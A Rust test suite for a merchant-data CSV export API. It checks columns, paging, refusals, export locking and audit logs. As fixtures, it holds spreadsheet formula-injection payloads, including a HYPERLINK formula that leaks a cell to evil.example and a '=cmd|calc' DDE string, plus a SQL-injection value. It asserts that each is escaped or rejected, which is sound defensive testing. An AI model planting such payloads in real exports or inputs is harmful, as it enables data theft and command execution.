//! Exports of a merchant's data as CSV.

use crate::keyed::Keyed;
use crate::support::refused;
use axum::http::Method;
use domain::date::Date;
use domain::export::ExportKind;
use domain::period::Period;
use engine::{Actor, By};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use testkit::{Answer, TestApp};

/// Rows by the names of their columns.
#[track_caller]
fn table(answer: Answer) -> Vec<BTreeMap<String, String>> {
    assert_eq!(
        answer.header("content-type"),
        Some("text/csv; charset=utf-8; header=present"),
        "{}",
        answer.text
    );
    assert!(answer.header("content-disposition").is_some_and(|d| d.starts_with("attachment; filename=\"")));
    let mut reader = csv::Reader::from_reader(answer.text.as_bytes());
    let names: Vec<String> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let rows = reader.records().map(|row| {
        let row = row.expect("as many cells as names");
        names.iter().cloned().zip(row.iter().map(str::to_owned)).collect()
    });
    rows.collect()
}

fn around_now(shop: &Keyed, kind: &str) -> Value {
    let today = Date::of_instant(shop.app.engine.now()).days();
    json!({
        "entityType": kind, "format": "csv",
        "from": Date::from_days(today - 1).to_string(), "to": Date::from_days(today + 1).to_string(),
    })
}

async fn exported(shop: &Keyed, kind: &str) -> Vec<BTreeMap<String, String>> {
    table(shop.post("/data-import-export/export", &around_now(shop, kind)).await)
}

fn hex(shown: &Value) -> String {
    let text = shown.as_str().and_then(|id| id.split_once('_')).expect("an id").1;
    domain::id::Core::parse_base62(text).expect("an id").hex()
}

const FORMULA: &str = "=HYPERLINK(\"https://evil.example?\"&A1,\"Click\")";

testkit::on_both_engines! {
    async fn every_kind_is_handed_out_as_it_is(db) {
        let shop = Keyed::new(TestApp::start(&db).await).await;
        let other = Keyed::new(shop.app.another_merchant().await).await;
        let customer = [("name", FORMULA), ("email", "+tag@example.com"), ("phone", "+49 30 1234"), ("description", "two\nlines, \"quoted\"")];
        let customer = shop.app.post("/v2/customers", &customer).await.expect(201);
        let customer_id = customer["id"].as_str().expect("an id").to_owned();
        let paid = shop.app.pay(12_345, "pm_card_visa", &[("customer", &customer_id)]).await.expect(201);
        let refund = [("payment_intent", paid["id"].as_str().expect("an id")), ("amount", "345"), ("reason", "duplicate")];
        let refund = shop.app.post("/v2/refunds", &refund).await.expect(201);
        shop.app.pay(500, "pm_card_visa_chargeDeclined", &[]).await.expect(402);
        let yen = [("amount", "5000"), ("currency", "jpy"), ("payment_method", "pm_card_visa"), ("confirm", "true")];
        shop.app.post("/v2/payment_intents", &yen).await.expect(201);
        other.app.pay(777, "pm_card_visa", &[]).await.expect(201);

        let rows = exported(&shop, "transactions").await;
        assert_eq!(rows.len(), 3, "its own, failed ones too: {rows:?}");
        let first = &rows[0];
        let fee = paid["latest_charge"].as_str().map(|charge| format!("/v2/charges/{charge}?expand[]=balance_transaction")).expect("a charge");
        let fee = shop.app.get(&fee).await.expect(200)["balance_transaction"]["fee"].as_i64().expect("a fee");
        for (name, cell) in [
            ("id", hex(&paid["latest_charge"]).as_str()),
            ("checkoutId", &hex(&paid["id"])),
            ("clientId", &hex(&customer["id"])),
            ("clientEmail", "'+tag@example.com"),
            ("method", "card"),
            ("statusCode", "1"),
            ("status", "succeeded"),
            ("currency", "EUR"),
            ("amount", "12345"),
            ("amountDecimal", "123.45"),
            ("captured", "12345"),
            ("refunded", "345"),
            ("refundedDecimal", "3.45"),
            ("fee", &fee.to_string()),
            ("failureCode", ""),
        ] {
            assert_eq!(first[name], cell, "{name}");
        }
        assert!(fee > 0 && !first["provider"].is_empty() && !first["site"].is_empty());
        assert!(first["createdAt"].ends_with('Z') && first["createdAt"].contains('T'));
        let (failed, yen) = (&rows[1], &rows[2]);
        assert_eq!((failed["statusCode"].as_str(), failed["status"].as_str(), failed["failureCode"].as_str()), ("2", "failed", "card_declined"));
        assert_eq!((failed["captured"].as_str(), failed["fee"].as_str()), ("0", "0"));
        assert_eq!((yen["amount"].as_str(), yen["amountDecimal"].as_str()), ("5000", "5000"), "no decimals in JPY");

        let clients = exported(&shop, "clients").await;
        assert_eq!(clients.len(), 1);
        assert_eq!(clients[0]["name"], format!("'{FORMULA}"), "no spreadsheet takes it for a formula");
        assert_eq!(clients[0]["phone"], "'+49 30 1234");
        assert_eq!(clients[0]["description"], customer["description"].as_str().expect("a text"));

        let made = json!({ "email": "b@example.com", "firstName": "=Ada", "company": "@Acme", "billingAddress": { "address1": "-1 Road", "country": "DE" } });
        let made = shop.post("/clients", &made).await.expect(201);
        let gone = shop.post("/clients", &json!({ "email": "gone@example.com" })).await.expect(201);
        let gone = format!("/clients/{}", gone["id"].as_str().expect("an id"));
        shop.ask(&shop.key, Method::DELETE, &gone, None).await.expect(200);
        let clients = exported(&shop, "clients").await;
        assert_eq!(clients.len(), 2, "without the deleted one: {clients:?}");
        for (name, cell) in [("id", made["id"].as_str().expect("an id")), ("firstName", "'=Ada"), ("company", "'@Acme"), ("line1", "'-1 Road"), ("country", "DE")] {
            assert_eq!(clients[1][name], cell, "{name}");
        }

        let refunds = exported(&shop, "refunds").await;
        assert_eq!(refunds.len(), 1);
        assert_eq!((refunds[0]["id"].as_str(), refunds[0]["amountDecimal"].as_str(), refunds[0]["status"].as_str(), refunds[0]["reason"].as_str()), (hex(&refund["id"]).as_str(), "3.45", "succeeded", "duplicate"));
        assert_eq!(refunds[0]["transactionId"], first["id"]);

        assert!(exported(&shop, "checkouts").await.is_empty());
        let site = shop.post("/sites", &json!({ "name": "=cmd|calc" })).await.expect(201)["id"].clone();
        let new = json!({ "amount": 4_900, "currency": "EUR", "externalReference": "@order-1", "invoiceNumber": "-7" });
        let made = shop.post(&format!("/checkouts/{}/create", site.as_str().expect("an id")), &new).await.expect(200);
        let checkouts = exported(&shop, "checkouts").await;
        assert_eq!(checkouts.len(), 1);
        for (name, cell) in [("id", made["id"].as_str().expect("an id")), ("site", "'=cmd|calc"), ("status", "open"), ("amountDecimal", "49.00"), ("externalReference", "'@order-1"), ("invoiceNumber", "'-7")] {
            assert_eq!(checkouts[0][name], cell, "{name}");
        }
        assert!(!checkouts[0].values().any(|cell| cell == made["shortCode"].as_str().expect("a code")), "the page's address is a capability");

        // Another mode has nothing of it, and each export is written down.
        for kind in ExportKind::ALL {
            let live = shop.ask(&shop.live, Method::POST, "/data-import-export/export", Some(&around_now(&shop, kind.as_str()))).await;
            assert!(table(live).is_empty(), "{kind}");
        }
        let told = shop.get("/audit-logs?action=data_exported").await.expect(200);
        assert_eq!(told["total"], 6, "{told}");
        assert_eq!((&told["auditLogs"][0]["target"], &told["auditLogs"][5]["target"]), (&json!("checkouts"), &json!("transactions")));
    }

    async fn rows_of_one_instant_come_once_each_over_many_pages(db) {
        let shop = Keyed::new(TestApp::start(&db).await).await;
        let frozen = 1_790_000_000;
        let clock = shop.app.post("/v2/test_helpers/test_clocks", &[("frozen_time", &frozen.to_string())]).await.expect(201);
        let clock = clock["id"].as_str().expect("an id").to_owned();
        // More than two pages, all made in the same microsecond.
        let mut made = BTreeSet::new();
        for _ in 0..1_030 {
            made.insert(hex(&shop.app.post("/v2/customers", &[("test_clock", &clock)]).await.expect(201)["id"]));
        }
        let instant = |seconds: i64| domain::date::iso_micros(domain::time::Timestamp::from_secs(seconds));
        let body = |from: i64, to: i64| json!({ "entityType": "clients", "from": instant(from), "to": instant(to) });
        let rows = table(shop.post("/data-import-export/export", &body(frozen, frozen + 1)).await);
        assert_eq!(rows.len(), made.len());
        assert_eq!(rows.iter().map(|row| row["id"].clone()).collect::<BTreeSet<_>>(), made);
        for (from, to) in [(frozen - 10, frozen), (frozen + 1, frozen + 2)] {
            assert!(table(shop.post("/data-import-export/export", &body(from, to)).await).is_empty(), "{from} to {to}");
        }
    }

    async fn an_organisation_has_one_at_a_time(db) {
        let shop = Keyed::new(TestApp::start(&db).await).await;
        let other = Keyed::new(shop.app.another_merchant().await).await;
        shop.app.pay(500, "pm_card_visa", &[]).await.expect(201);
        let today = Date::of_instant(shop.app.engine.now());
        let period = Period::of_days(today, Date::from_days(today.days() + 1)).expect("a period");
        let by = By { actor: Actor::AdminKey(domain::id::AdminKeyId(domain::id::Core([1; 12]))), request: "req_1".to_owned() };
        let begin = || shop.app.engine.export(shop.app.scope(), by.clone(), ExportKind::Transactions, period);
        let mut first = begin().await.expect("begun");
        for path in ["/data-import-export/export", "/audit-logs/export"] {
            let method = if path.starts_with("/audit") { Method::GET } else { Method::POST };
            let body = around_now(&shop, "clients");
            refused(shop.ask(&shop.key, method.clone(), path, Some(&body)).await, 409, "export_running");
            let elsewhere = other.ask(&other.key, method, path, Some(&body)).await;
            assert_eq!(elsewhere.status, 200, "another organisation is not held up: {}", elsewhere.text);
        }
        assert!(first.next_page().await.expect("a page").is_some());
        assert!(first.next_page().await.expect("the end").is_none());
        drop(first);
        // One that was read, one that was refused, and one that was left give their place back.
        exported(&shop, "clients").await;
        refused(shop.post("/data-import-export/export", &json!({ "entityType": "clients", "from": "1926-01-01", "to": "2026-01-01" })).await, 400, "period_invalid");
        drop(begin().await.expect("begun"));
        exported(&shop, "clients").await;
    }

    async fn what_cannot_be_asked_is_refused(db) {
        let shop = Keyed::new(TestApp::start(&db).await).await;
        let days = ("2026-01-01", "2026-01-31");
        for (kind, from, to, format, code) in [
            ("transactions", "1926-01-01", "2026-01-01", "csv", "period_invalid"),
            ("transactions", "2026-01-31", "2026-01-01", "csv", "period_invalid"),
            ("transactions", "now", "2026-01-01", "csv", "instant_invalid"),
        ] {
            let body = json!({ "entityType": kind, "from": from, "to": to, "format": format });
            refused(shop.post("/data-import-export/export", &body).await, 400, code);
        }
        for body in [
            json!({}),
            json!({ "entityType": "transactions" }),
            json!({ "entityType": "transactions", "from": days.0 }),
            json!({ "entityType": "invoices", "from": days.0, "to": days.1 }),
            json!({ "entityType": "transactions; DROP TABLE payments", "from": days.0, "to": days.1 }),
            json!({ "entityType": "transactions", "from": days.0, "to": days.1, "format": "xlsx" }),
        ] {
            shop.post("/data-import-export/export", &body).await.expect(400);
        }
        let narrow = shop.narrow("data_io:read").await;
        let answer = shop.ask(&narrow, Method::POST, "/data-import-export/export", Some(&around_now(&shop, "clients"))).await;
        refused(answer, 403, "insufficient_scope");
        assert_eq!(shop.get("/audit-logs?action=data_exported").await.expect(200)["total"], 0);
    }
}
